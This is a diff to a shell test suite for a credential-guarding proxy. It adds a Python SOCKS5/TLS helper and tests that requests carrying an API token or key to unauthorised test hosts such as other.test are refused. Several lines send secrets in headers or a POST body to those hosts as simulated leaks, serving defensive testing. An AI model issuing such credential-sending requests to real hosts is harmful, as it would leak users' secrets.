@@ -168,6 +168,43 @@ check_eq "... and never reached it" "0" "$(seen " /leak ")"
 out=$(wr sh -c "curl -sS -H \"X-Api-Key: \$API_KEY\" $AU/get/other")
 check "the file credential outside its path prefix is refused" grep -q "goes to api.test/keyed only" <<<"$out"
 check_eq "... and never reached the server" "0" "$(seen " /get/other ")"
+# The same through SOCKS5 with the request sent along with the greeting
+# (the proxy then answers both in one write, also when it hands the
+# connection to the inspector): inspected, the placeholder still refused.
+cat >"$WS/socks-tls.py" <<'PYEOF'
+import socket, ssl, struct, sys
+host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+s = socket.create_connection(("127.0.0.1", 1080), timeout=20)
+h = host.encode()
+s.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(h)]) + h + struct.pack(">H", port))
+rep = b""
+while len(rep) < 12:
+    b = s.recv(12 - len(rep))
+    if not b:
+        break
+    rep += b
+if rep[:4] != b"\x05\x00\x05\x00":
+    print("socks reply", rep)
+    sys.exit(0)
+t = ssl.create_default_context().wrap_socket(s, server_hostname=host)
+auth = ("Authorization: Bearer %s\r\n" % sys.argv[4]) if len(sys.argv) > 4 else ""
+t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (path, host, auth)).encode())
+out = b""
+while True:
+    b = t.recv(4096)
+    if not b:
+        break
+    out += b
+print(out.decode(errors="replace"))
+PYEOF
+out=$(wr sh -c "python3 socks-tls.py other.test $SP /sockspipe")
+check "SOCKS5 pipelined to an inspected host: the answer comes through the inspector" \
+	grep -q "^ok GET /sockspipe" <<<"$out"
+check_eq "... and the server saw it once" "1" "$(seen "tls GET /sockspipe ")"
+out=$(wr sh -c "python3 socks-tls.py other.test $SP /sockleak \"\$API_TOKEN\"")
+check "SOCKS5 pipelined: the placeholder to another (inspected) host is refused" \
+	grep -q "refused GET /sockleak to other.test" <<<"$out"
+check_eq "... and never reached it" "0" "$(seen " /sockleak ")"
 out=$(wr sh -c "curl -sS -d \"t=\$API_TOKEN\" -X POST https://other.test:$SP/upload")
 check "the placeholder in a body to another host is refused" grep -q "body carries a credential placeholder" <<<"$out"
 check_eq "... and the body never reached it" "0" "$(seen "tls POST /upload auth=None key=None body=t=")"
